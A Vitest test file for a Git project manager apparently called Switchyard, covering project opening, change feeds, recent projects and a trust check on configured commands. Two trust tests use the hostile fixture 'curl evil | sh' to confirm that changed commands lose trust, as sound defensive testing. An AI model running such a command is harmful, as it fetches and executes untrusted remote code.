import { access, chmod, mkdir, readdir, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import type { Project } from '#shared/contract/projects.ts';
import { projectId } from '#shared/ids.ts';

import { TestProjects } from './test-projects.ts';

let world: TestProjects;
let repository: TestProjects['repository'];
beforeEach(async () => {
  world = await TestProjects.create();
  repository = world.repository;
});
afterEach(() => world.remove());

describe('opening a project', () => {
  it('tells what Git and the config file say', async () => {
    await repository.git('branch', 'feature/älter', 'main');
    expect(await world.open()).toEqual({
      id: expect.stringMatching(/^[0-9a-f]{16}$/) as string,
      path: repository.path,
      name: 'project',
      headBranch: 'main',
      checkoutIsDirty: false,
      defaultBase: 'main',
      branches: expect.arrayContaining(['main', 'feature/älter']) as string[],
      isSetUp: false,
      config: {
        worktreeFolder: world.at('project.worktrees'),
        branchTemplate: 'feature/ai-{slug}',
        copy: [],
        setupCommand: null,
        mergeMethod: 'merge',
        gatesOfMerge: [],
        problems: [],
      },
      trust: { kind: 'nothing-to-trust' },
    });
  });

  it('takes the same folder by another way as the same project', async () => {
    await symlink(repository.path, world.at('home', 'link'));
    const { id } = await world.open();
    for (const way of ['~/link', '~/../project', 'link', `${repository.path}/`, `${repository.path}/src/..`]) {
      expect((await world.open(way)).id).toBe(id);
    }
    expect(world.projects.openProjects().map(({ path }) => path)).toEqual([repository.path]);
  });

  it('opens it once when two windows ask at the same time', async () => {
    const opened: string[] = [];
    world.projects.onDidOpen(({ path }) => opened.push(path));
    await Promise.all([world.open(), world.open(), world.open()]);
    expect(opened).toEqual([repository.path]);
  });

  it('opens with HEAD detached, and on a branch that has no commit while another has', async () => {
    await repository.git('switch', '-q', '--detach');
    expect(await world.open()).toMatchObject({ headBranch: null, defaultBase: 'main' });
    await repository.git('switch', '-q', '--orphan', 'new');
    expect(await world.open()).toMatchObject({ headBranch: 'new', defaultBase: 'main', branches: ['main'] });
  });

  it("starts from the config's base, the remote's default, or the usual name", async () => {
    await repository.git('branch', '-m', 'trunk');
    expect(await world.open()).toMatchObject({ defaultBase: 'trunk' });
    await repository.git('branch', 'master');
    expect(await world.open()).toMatchObject({ defaultBase: 'master' });
    await repository.git('branch', 'develop');
    await repository.git('symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/develop');
    expect(await world.open()).toMatchObject({ defaultBase: 'develop' });
    await repository.write('.switchyard/config.yaml', '\nbase: trunk\n');
    expect(await world.open()).toMatchObject({ defaultBase: 'trunk', config: { problems: [] } });
    await repository.write('.switchyard/config.yaml', '\nbase: gone\n');
    expect(await world.open()).toMatchObject({
      defaultBase: 'develop',
      config: { problems: [{ line: 2, message: 'base: there is no branch gone here.' }] },
    });
  });

  it('knows a repository whose name is unusual', async () => {
    const odd = world.at('-odd "näme"\nwith a break');
    await rename(repository.path, odd);
    expect(await world.open(odd)).toMatchObject({ path: odd, name: '-odd "näme"\nwith a break' });
    await rename(odd, repository.path);
  });

  it('runs nothing that the repository names', async () => {
    const marker = world.at('ran');
    await repository.write('.switchyard/config.yaml', `setup: touch ${marker}\n`);
    await repository.write('.git/hooks/post-index-change', `#!/bin/sh\ntouch ${marker}\n`);
    await chmod(join(repository.path, '.git/hooks/post-index-change'), 0o755);
    await repository.git('config', 'core.fsmonitor', `touch ${marker}; true`);
    expect((await world.open()).trust.kind).toBe('asks');
    expect(await readdir(repository.root)).not.toContain('ran');
  });

  it('is not held up by a config that is a pipe, a folder, huge or binary', async () => {
    const file = join(repository.path, '.switchyard', 'config.yaml');
    await mkdir(file, { recursive: true });
    expect((await world.open()).config.problems).toHaveLength(1);
    await rm(file, { recursive: true });
    await symlink('/dev/zero', file);
    expect((await world.open()).config.problems).toHaveLength(1);
    await rm(file);
    await writeFile(file, '#'.repeat(1_000_001));
    expect((await world.open()).config.problems).toHaveLength(1);
    await writeFile(file, Buffer.from([0xff, 0xfe, 0, 1, 2, 0x80]));
    expect((await world.open()).config).toMatchObject({ branchTemplate: 'feature/ai-{slug}' });
  });
});

describe('what changes while a project is open', () => {
  it('is pushed when it differs, and only then, until nobody listens', async () => {
    const { id, path } = await world.open();
    const seen: Project[] = [];
    const feed = world.projects.onDidChange(id, (project) => seen.push(project));
    expect(seen).toHaveLength(1);

    world.somethingChanged.fire(path);
    await world.projects.open({ path });
    expect(seen).toHaveLength(1);

    await repository.git('switch', '-q', '-c', 'other');
    world.somethingChanged.fire(path);
    await expect.poll(() => seen.at(-1)?.headBranch).toBe('other');
    await repository.write('.switchyard/config.yaml', 'merge: { method: squash }\n');
    await mkdir(join(path, 'specs'));
    world.somethingChanged.fire(path);
    await expect
      .poll(() => seen.at(-1))
      .toMatchObject({
        isSetUp: true,
        checkoutIsDirty: true,
        config: { mergeMethod: 'squash' },
      });

    feed.dispose();
    const count = seen.length;
    await repository.git('switch', '-q', 'main');
    expect(await world.open()).toMatchObject({ headBranch: 'main' });
    expect(seen).toHaveLength(count);
  });

  it('keeps what was last seen when the folder goes away, and says so when it is opened again', async () => {
    const { id, path } = await world.open();
    await rename(path, world.at('moved'));
    expect(await world.failure(path)).toMatchObject({ kind: 'not-found' });
    expect(world.projects.require(id).state.headBranch).toBe('main');
    expect(await world.projects.listRecent()).toMatchObject({ value: [{ path, exists: false }] });
  });

  it('is asked for an open project only', () => {
    const unknown = projectId.parse('unknown');
    expect(world.projects.find(unknown)).toBeUndefined();
    expect(() => world.projects.require(unknown)).toThrow('not open');
    expect(() => world.projects.onDidChange(unknown, () => undefined)).toThrow('not open');
  });
});

describe('trust', () => {
  it('is given to the commands that were shown, outlives the app, and ends when they change', async () => {
    await repository.write('.switchyard/config.yaml', 'setup: npm ci\n');
    const { id, trust } = await world.open();
    expect(trust).toMatchObject({ kind: 'asks', commands: [{ where: 'setup', command: 'npm ci' }] });
    expect(world.projects.require(id).isTrusted).toBe(false);
    const fingerprint = trust.kind === 'asks' ? trust.fingerprint : '';

    await repository.write('.switchyard/config.yaml', 'setup: curl evil | sh\n');
    expect(await world.projects.trust({ projectId: id, fingerprint })).toMatchObject({
      error: { kind: 'commands-changed' },
    });
    expect(world.projects.require(id)).toMatchObject({
      isTrusted: false,
      state: { trust: { commands: [{ command: 'curl evil | sh' }] } },
    });

    await repository.write('.switchyard/config.yaml', 'setup: npm ci\n');
    expect(await world.projects.trust({ projectId: id, fingerprint })).toMatchObject({ ok: true });
    expect(world.projects.require(id)).toMatchObject({ isTrusted: true, state: { trust: { kind: 'trusted' } } });
    world.restart();
    expect((await world.open()).trust).toEqual({ kind: 'trusted' });
    expect(await repository.git('status', '--porcelain', '--untracked-files=all')).toBe('?? .switchyard/config.yaml');
  });

  it('is asked for the command of an invariant, and again when that changes', async () => {
    const invariant = (run: string): string => `---\nrules: { command: "${run}" }\n---\n\n# Rule\n`;
    await repository.write('.switchyard/invariants/rule.md', invariant('npm run rules'));
    const { id, trust } = await world.open();
    expect(trust).toMatchObject({ kind: 'asks', commands: [{ where: 'invariant rule', command: 'npm run rules' }] });
    const fingerprint = trust.kind === 'asks' ? trust.fingerprint : '';
    expect(await world.projects.trust({ projectId: id, fingerprint })).toMatchObject({ ok: true });
    expect(world.projects.require(id)).toMatchObject({
      isTrusted: true,
      config: { invariantCommands: [{ id: 'rule', title: 'Rule', run: 'npm run rules' }] },
    });
    await repository.write('.switchyard/invariants/rule.md', invariant('curl evil | sh'));
    expect((await world.open()).trust.kind).toBe('asks');
    expect(world.projects.require(id).isTrusted).toBe(false);
  });

  it('is not inherited by another repository with the same commands', async () => {
    await repository.write('.switchyard/config.yaml', 'setup: npm ci\n');
    await repository.commit('Set up');
    await repository.git('clone', '-q', repository.path, world.at('clone'));
    const { id, trust } = await world.open();
    await world.projects.trust({ projectId: id, fingerprint: trust.kind === 'asks' ? trust.fingerprint : '' });
    expect((await world.open(world.at('clone'))).trust.kind).toBe('asks');
  });
});

describe('recent projects', () => {
  it('are remembered by their canonical path, and forgotten on request', async () => {
    await symlink(repository.path, world.at('link'));
    await world.open(world.at('link'));
    await world.failure(world.at('home'));
    const recent = [{ path: repository.path, name: 'project', openedAt: 1000, exists: true }];
    expect(await world.projects.listRecent()).toEqual({ ok: true, value: recent });
    await world.projects.forgetRecent({ path: repository.path });
    expect(await world.projects.listRecent()).toEqual({ ok: true, value: [] });
  });
});

it('makes the demo where it was told to', async () => {
  await mkdir(world.at('demo', 'specs'), { recursive: true });
  await writeFile(world.at('demo', 'index.js'), '1\n');
  await writeFile(world.at('demo', 'specs', 'one.md'), '# One\n');
  expect(await world.projects.createDemo()).toEqual({ ok: true, value: { path: world.at('home', 'switchyard-demo') } });
  expect(await world.make({ demoTarget: world.at('here') }).createDemo()).toEqual({
    ok: true,
    value: { path: world.at('here') },
  });
  expect(await world.open(world.at('here'))).toMatchObject({ headBranch: 'main', checkoutIsDirty: false });
  expect(await readFile(world.at('here', 'index.js'), 'utf8')).toBe('1\n');
  await access(world.at('here', 'specs', 'one.md'));
});
